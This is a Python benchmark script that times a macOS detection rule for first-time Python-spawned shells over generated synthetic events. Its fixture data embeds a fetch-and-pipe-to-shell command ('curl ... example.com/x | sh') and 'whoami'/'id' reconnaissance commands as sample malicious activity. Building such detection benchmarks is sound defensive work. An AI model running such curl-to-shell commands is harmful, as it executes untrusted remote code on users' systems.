"""Benchmark: the seed new_terms rule through rule_kit.engine.run over generated history + window events.

    .venv/bin/python bench/engine_new_terms.py [--sizes 100000,300000,1000000] [--seed 1] [--repeat 1] [--no-memory]

Events (nested JSON objects, shared sub-objects and strings so that 1M fit in memory): about 95% in the 7-day
history, 4% in the 9-minute window, 1% older than the history; ~1,000 macOS hosts, 20 Python interpreter paths, about
10% failing the query (a pip command line, a login shell without -c, a Linux host), 5% with two interpreter paths
(a multi-valued new-terms field), every event with `event.ingested` (the rule's timestamp_override). One in 50 window
events runs a freshly installed interpreter (one of 500 paths never seen in the history): the new terms, capped at
the rule's max_signals (100).

The plan is built once, outside the timing. For each size the table gives the engine's time (best of --repeat), the
time of the compiled query alone over every event (`query s`: most of the engine's time), µs per event, the time per
event relative to the smallest size (flat = linear), and the peak memory the engine allocates (tracemalloc, in a
separate untimed run; the events list is built before tracing starts, so it is excluded). Times on a shared machine
are noise; there is no assertion on them (target: 1M events under 20 s).
"""

from __future__ import annotations

import argparse
import random
import sys
import time
import tracemalloc
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from rule_kit.engine import plan_rule, run  # noqa: E402
from rule_kit.rules import read_rule  # noqa: E402

SEED = ROOT / "rules" / "macos" / "execution_first_time_python_spawned_a_shell_on_host.toml"
NOW = datetime(2026, 3, 24, 12, 0, tzinfo=UTC)
HOSTS = 1_000
SHELLS = ("bash", "sh", "zsh", "dash", "fish")
INTERPRETERS = tuple(
    f"{prefix}/python3.{minor}"
    for prefix in ("/usr/bin", "/usr/local/bin", "/opt/homebrew/bin", "/Library/Frameworks/Python.framework/Versions")
    for minor in (9, 10, 11, 12, 13)
)  # 20 interpreter paths
TIMESTAMP_POOL = 50_000  # distinct timestamp strings per period (shared between events)


def _iso(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def _timestamps(rng: random.Random, count: int, newest: timedelta, oldest: timedelta) -> list[str]:
    span = (oldest - newest) // timedelta(milliseconds=1)
    return [_iso(NOW - newest - timedelta(milliseconds=rng.randrange(span))) for _ in range(count)]


def _process(shell: str, parent: str | list[str], command_line: str, args: list[str]) -> dict[str, Any]:
    name = parent[0].rsplit("/", 1)[-1] if isinstance(parent, list) else parent.rsplit("/", 1)[-1]
    return {
        "name": shell,
        "executable": f"/bin/{shell}",
        "args": args,
        "command_line": command_line,
        "parent": {"name": name, "executable": parent},
    }


def make_events(count: int, seed: int) -> list[dict[str, Any]]:
    """`count` events sharing their sub-objects: only the top-level dict and the `event` dict are per event."""
    rng = random.Random(seed)
    window = _timestamps(rng, TIMESTAMP_POOL // 10, timedelta(0), timedelta(minutes=9))
    history = _timestamps(rng, TIMESTAMP_POOL, timedelta(minutes=9), timedelta(days=7))
    ancient = _timestamps(rng, TIMESTAMP_POOL // 10, timedelta(days=7), timedelta(days=30))
    macos = [{"id": f"host-{n:04d}", "name": f"mac-{n:04d}", "os": {"type": "macos"}} for n in range(HOSTS)]
    linux = [{"id": f"host-{n:04d}", "name": f"mac-{n:04d}", "os": {"type": "linux"}} for n in range(HOSTS)]
    matching, failing = [], []
    for shell in SHELLS:
        args = [shell, "-c", "curl -s https://example.com/x | sh"]
        for interpreter in INTERPRETERS:
            matching.append(_process(shell, interpreter, " ".join(args), args))
            failing.append(_process(shell, interpreter, f"{shell} -c pip install requests", [shell, "-c", "pip"]))
            failing.append(_process(shell, interpreter, f"{shell} -l", [shell, "-l"]))
    fresh = [
        _process("sh", f"/Users/dev{n}/.venv/bin/python3", "sh -c whoami", ["sh", "-c", "whoami"]) for n in range(500)
    ]
    multi = [
        _process(shell, [a, b], f"{shell} -c id", [shell, "-c", "id"])
        for shell in SHELLS
        for a, b in zip(INTERPRETERS, INTERPRETERS[1:] + INTERPRETERS[:1], strict=True)
    ]
    category, kind = ["process"], ["start"]
    events: list[dict[str, Any]] = []
    append, random_ = events.append, rng.random
    for _ in range(count):
        roll = random_()
        stamps = window if roll < 0.04 else ancient if roll < 0.05 else history
        stamp = stamps[int(random_() * len(stamps))]
        host_roll = random_()
        hosts = linux if host_roll < 0.03 else macos
        roll = random_()
        processes = failing if roll < 0.07 else multi if roll < 0.12 else matching
        if stamps is window and roll > 0.98:
            processes = fresh
        append(
            {
                "@timestamp": stamp,
                "event": {"category": category, "type": kind, "action": "exec", "ingested": stamp},
                "host": hosts[int(random_() * HOSTS)],
                "process": processes[int(random_() * len(processes))],
            }
        )
    return events


def measure(plan: Any, events: list[dict[str, Any]], repeat: int) -> tuple[float, int]:
    best, alerts = float("inf"), 0
    for _ in range(repeat):
        start = time.perf_counter()
        alerts = len(run(plan, events, NOW))
        best = min(best, time.perf_counter() - start)
    return best, alerts


def query_only(matcher: Any, events: list[dict[str, Any]]) -> tuple[float, int]:
    start = time.perf_counter()
    matching = sum(1 for event in events if matcher(event))
    return time.perf_counter() - start, matching


def peak_memory(plan: Any, events: list[dict[str, Any]]) -> int:
    tracemalloc.start()
    try:
        run(plan, events, NOW)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--sizes", default="100000,300000,1000000", help="comma-separated event counts")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--repeat", type=int, default=1, help="best of N timed runs")
    parser.add_argument("--no-memory", action="store_true", help="skip the (slower) tracemalloc run")
    args = parser.parse_args(argv)
    sizes = [int(size) for size in args.sizes.split(",") if size.strip()]

    plan = plan_rule(read_rule(SEED))
    matcher = plan.matcher(NOW)
    fields = ", ".join(plan.new_terms_fields)
    print(f"rule: {SEED.relative_to(ROOT)} (new terms {fields}; history {plan.history_window_start})")
    header = (
        f"{'events':>10} {'matching':>9} {'alerts':>7} {'generate s':>10} {'query s':>8} {'engine s':>9} "
        f"{'µs/event':>9} {'vs first':>8}"
    )
    header += "" if args.no_memory else f" {'peak MiB':>9} {'B/event':>8}"
    print(header)
    first_rate = None
    for size in sizes:
        start = time.perf_counter()
        events = make_events(size, args.seed)
        generated = time.perf_counter() - start
        seconds, alerts = measure(plan, events, args.repeat)
        query_seconds, matching = query_only(matcher, events)
        rate = seconds / size
        first_rate = first_rate or rate
        line = (
            f"{size:>10,} {matching / size:>9.1%} {alerts:>7,} {generated:>10.2f} {query_seconds:>8.2f} "
            f"{seconds:>9.2f} {rate * 1e6:>9.2f} {rate / first_rate:>7.2f}x"
        )
        if not args.no_memory:
            peak = peak_memory(plan, events)
            line += f" {peak / 2**20:>9.1f} {peak / size:>8.1f}"
        print(line)
        del events
    return 0


if __name__ == "__main__":
    sys.exit(main())
